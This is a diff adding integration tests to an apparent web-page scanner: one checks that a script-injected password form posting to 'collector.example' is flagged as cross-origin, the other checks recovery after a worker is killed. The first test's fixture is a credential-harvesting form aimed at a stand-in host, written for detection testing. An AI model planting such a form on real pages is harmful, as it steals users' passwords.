@@ -10,8 +10,10 @@ from __future__ import annotations
 
 import hashlib
 import json
+import signal
 import subprocess
 import sys
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -25,7 +27,8 @@ from statemachine.states import State
 from tests.apiserver import api_server, make_key
 from tests.browser import decode_png
 from tests.integration.conftest import scanbox_containers, settings_from
-from tests.services import unavailable, worker_processes
+from tests.integration.test_reliability import FAST_RECOVERY
+from tests.services import poll, unavailable, worker_processes
 from tests.sites import Site, serve
 from tests.unit.fetcher.servers import SilentListener
 from worker.app.database import open_database
@@ -273,3 +276,68 @@ def test_the_api_serves_a_browser_scans_artifacts_as_downloads_and_its_page_show
     assert page.status == 200, page.body[:300]
     assert f"/v1/scans/{job.id}/artifacts/screenshot".encode() in page.body
     assert b"Connections (egress proxy)" in page.body
+
+
+def test_a_password_form_a_script_adds_is_seen_in_the_rendered_dom(
+    browser_env: dict[str, str], site: Site, tmp_path: Path
+) -> None:
+    site.page(
+        "/",
+        b"<title>sign in</title><div id='here'></div><script>"
+        b"document.getElementById('here').innerHTML = "
+        b"\"<form method='post' action='https://collector.example/take'>"
+        b"<input name='user'><input type='password' name='pass'></form>\";"
+        b"</script>",
+    )
+
+    job, result = _browser_scan(browser_env, site.url("/"), tmp_path)
+
+    assert job.state == State.COMPLETED, job.error_message
+    [form] = result.report["forms"]
+    assert (form["action_host"], form["has_password"], form["cross_origin"]) == (
+        "collector.example",
+        True,
+        True,
+    )
+    assert "password_form_cross_origin" in {reason["rule"] for reason in result.reasons}
+
+
+def test_a_capture_whose_worker_is_killed_completes_on_another_with_no_container_left(
+    browser_env: dict[str, str], site: Site, tmp_path: Path, docker_client: docker.DockerClient
+) -> None:
+    env = browser_env | FAST_RECOVERY
+    release = threading.Event()
+    site.held_page("/", b"<title>held</title>", release=release)
+    settings = settings_from(env)
+    db = open_database(settings)
+    redis = Redis.from_url(settings.effective_redis_url)
+    [job_id] = submit_urls(
+        [site.url("/")], db=db, dispatcher=dispatcher(settings, redis), mode="browser"
+    )
+    redis.close()
+    with worker_processes(env, tmp_path) as workers:
+        first = workers.start("--concurrency", "1")
+        poll(
+            lambda: True if scanbox_containers(docker_client, [job_id]) else None,
+            timeout_s=60,
+            what="the browser container",
+        )
+        first.send_signal(signal.SIGKILL)
+        first.wait(timeout=10)
+        release.set()
+        workers.start("--concurrency", "1")
+        poll(
+            lambda: True if queries.get_job(db, job_id).state == State.COMPLETED else None,
+            timeout_s=120,
+            what="the capture to complete on the second worker",
+        )
+        poll(
+            lambda: True if scanbox_containers(docker_client, [job_id]) == [] else None,
+            timeout_s=60,
+            what="the killed worker's browser container to be reaped",
+        )
+    job = queries.get_job(db, job_id)
+    assert job.attempts == 2
+    result = queries.get_result(db, job_id)
+    assert result is not None
+    assert result.title == "held"
